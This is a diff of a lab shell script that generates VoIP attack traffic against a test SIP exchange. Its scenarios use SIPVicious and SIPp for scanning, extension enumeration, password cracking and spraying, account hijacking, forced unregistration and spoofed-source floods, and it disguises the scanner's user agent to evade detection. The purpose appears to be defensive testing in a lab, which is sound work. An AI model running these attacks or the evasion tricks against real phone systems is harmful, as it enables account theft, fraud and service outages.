@@ -3,36 +3,37 @@
 attacker=198.51.100.23
 exchange=192.0.2.10
 
-# vicious TOOL ADDRESS [options]: a tool of SIPVicious, from an address of the attacker.
+# as ADDRESS: what the attacker's host sends comes from there; the tools' own options for that have no effect.
+as() { at attacker ip route replace 192.0.2.0/24 dev eth0 src "$1"; }
+
+# vicious TOOL [options]: a tool of SIPVicious.
 vicious() {
-  local tool=$1 address=$2; shift 2
-  at attacker "$tool" -b "$address" -x "$address" "$@" >"$work/$tool.log" 2>&1 || true
+  local tool=$1; shift
+  as $attacker
+  at attacker "$tool" -x $attacker "$@" >"$work/$tool.log" 2>&1 || true
 }
 
-# disguised TOOL ADDRESS [options]: the same under the name of an ordinary phone.
+# disguised ADDRESS TOOL [options]: the same from another address, under the name of an ordinary phone.
 disguised() {
-  local tool=$1 address=$2; shift 2
+  local address=$1 tool=$2; shift 2
   if [ ! -d "$work/disguised" ]; then
     mkdir "$work/disguised" && cp -r /usr/share/sipvicious/sipvicious "$work/disguised/"
     sed -i "s/'friendly-scanner'/'Desk Phone 410\/2.1.7'/" "$work"/disguised/sipvicious/libs/*.py "$work"/disguised/sipvicious/*.py
   fi
-  (cd "$work/disguised" && at attacker /usr/bin/python3 -m "sipvicious.$tool" -b "$address" -x "$address" "$@" \
-    >"$work/$tool.log" 2>&1) || true
+  as "$address"
+  (cd "$work/disguised" && at attacker /usr/bin/python3 -m "sipvicious.$tool" -x "$address" "$@" >"$work/$tool.log" 2>&1) || true
 }
 
-scenario_scan() { vicious svmap $attacker 192.0.2.8-12 192.0.2.32/27; }
-scenario_scan_disguised() { disguised svmap $attacker 192.0.2.8-12 192.0.2.32/27; }
-scenario_scan_slow() { disguised svmap $attacker -t 0.3 192.0.2.8-12 192.0.2.40-45; }
+scenario_scan() { vicious svmap 192.0.2.8-12 192.0.2.32/27; }
+scenario_scan_disguised() { disguised $attacker svmap 192.0.2.8-12 192.0.2.32/27; }
+scenario_scan_slow() { disguised $attacker svmap -t 0.3 192.0.2.8-12 192.0.2.40-45; }
 
-scenario_enumerate_register() { vicious svwar $attacker -e 190-230 $exchange; }
-scenario_enumerate_invite() { vicious svwar $attacker -m INVITE -e 190-230 $exchange; }
-scenario_enumerate_options() { vicious svwar $attacker -m OPTIONS -e 190-230 $exchange; }
-
-# numbers FIRST LAST [;FIELD…]: a file of numbers for SIPp, with further fields behind each.
-numbers() { echo SEQUENTIAL; local n; for n in $(seq "$1" "$2"); do echo "$n${3:-}"; done; }
+scenario_enumerate_register() { vicious svwar -e 190-230 $exchange; }
+scenario_enumerate_invite() { vicious svwar -m INVITE -e 190-230 $exchange; }
+scenario_enumerate_options() { vicious svwar -m OPTIONS -e 190-230 $exchange; }
 
 scenario_enumerate_own_tool() {
-  numbers 500 519 >"$work/numbers.csv"
+  { echo SEQUENTIAL; seq 500 519; } >"$work/numbers.csv"
   sed 's/\[user\]/[field0]/g; s/<recv response="401"/<recv response="404"/' "$work/flood-register.xml" >"$work/enumerate.xml"
   party attacker $attacker 5070 enumerate -inf numbers.csv -m 20 -r 4
 }
@@ -40,7 +41,7 @@ scenario_enumerate_own_tool() {
 # The right word comes last.
 scenario_crack() {
   { seq 1000 1029; echo pass-206; } >"$work/words"
-  vicious svcrack $attacker -u 206 -d "$work/words" $exchange
+  vicious svcrack -u 206 -d "$work/words" $exchange
   grep -qa pass-206 "$work/svcrack.log" || { echo "lab: svcrack did not find the password" >&2; echo svcrack >>"$work/broken"; }
 }
 
@@ -48,41 +49,49 @@ scenario_crack_distributed() {
   local n
   for n in 65 66 67 68 69 70; do
     seq "${n}0" "${n}6" >"$work/words"
-    disguised svcrack "198.51.100.$n" -u 206 -d "$work/words" $exchange
+    disguised "198.51.100.$n" svcrack --maximumtime=1 -u 206 -d "$work/words" $exchange
   done
+  as $attacker
 }
 
 scenario_spray() {
-  numbers 300 311 >"$work/numbers.csv"
-  party attacker $attacker 5070 register-wrong -inf numbers.csv -m 12 -r 2
+  sed 's/FINAL/401/' "$work/register-listed.xml" >"$work/register-wrong.xml"
+  listed 300 311 123456 >"$work/phones.csv"
+  party attacker $attacker 5070 register-wrong -inf phones.csv -m 12 -r 2
 }
 
-# A stolen account: its calls go to the attacker from now on, and then the owner's phone is thrown out.
+# A stolen account: its calls go to the attacker from now on.
 scenario_hijack() {
   register 4
   begin
   party attacker $attacker 5070 register -m 1 -key user 204 -au 204 -ap pass-204 -key life 600 -key agent "Softline 9.4"
-  sed 's/Contact: <.*/Contact: */' "$work/register.xml" >"$work/register-all.xml"
-  party attacker $attacker 5070 register-all -m 1 -key user 204 -au 204 -ap pass-204 -key life 0 -key agent "Softline 9.4"
 }
 
-# flood SCENARIO COUNT RATE [sipp options]; a server that is overrun may answer late, and that is no mistake of the lab.
+# A stranger with the password throws all phones of an account out.
+scenario_unregister() {
+  register 5
+  begin
+  sed 's/Contact: <.*/Contact: */' "$work/register.xml" >"$work/register-all.xml"
+  party attacker $attacker 5070 register-all -m 1 -key user 205 -au 205 -ap pass-205 -key life 0 -key agent "Softline 9.4"
+}
+
+# flood SCENARIO USER COUNT RATE [sipp options]; a server that is overrun may answer late, and that is no mistake of the lab.
 flood() {
-  local scenario=$1 count=$2 rate=$3; shift 3
-  (cd "$work" && at attacker timeout 20 sipp $exchange:5060 -sf "$scenario.xml" -p 5080 -key user 4711 -r "$rate" -m "$count" -nr \
+  local scenario=$1 user=$2 count=$3 rate=$4; shift 4
+  (cd "$work" && at attacker timeout 20 sipp $exchange:5060 -sf "$scenario.xml" -p 5080 -key user "$user" -r "$rate" -m "$count" -nr \
     -nostdin "$@" >"$work/flood.log" 2>&1) || true
 }
 
-scenario_flood_invite() { flood flood-invite 400 100 -i $attacker; }
-scenario_flood_register() { flood flood-register 400 100 -i $attacker -key user 207; }
-scenario_flood_options() { flood flood-options 500 100 -i $attacker; }
+scenario_flood_invite() { flood flood-invite 4711 400 100 -i $attacker; }
+scenario_flood_register() { flood flood-register 207 400 100 -i $attacker; }
+scenario_flood_options() { flood flood-options 4711 500 100 -i $attacker; }
 
 # crowd SCENARIO ADDRESSES COUNT RATE: a flood in which the packets come from so many addresses in turn.
 crowd() {
   local n
   { echo SEQUENTIAL; for n in $(seq "$2"); do echo "198.18.$((n / 250)).$((n % 250 + 1))"; done; } >"$work/crowd.csv"
   sed 's/\[local_ip\]/[field0]/g; /<recv /d' "$work/$1.xml" >"$work/crowd.xml"
-  flood crowd "$3" "$4" -t ui -inf crowd.csv -ip_field 0 -i 198.18.0.2
+  flood crowd 4711 "$3" "$4" -t ui -max_socket 2000 -inf crowd.csv -ip_field 0 -i 198.18.0.2
 }
 
 scenario_flood_crowd() { crowd flood-invite 600 700 100; }
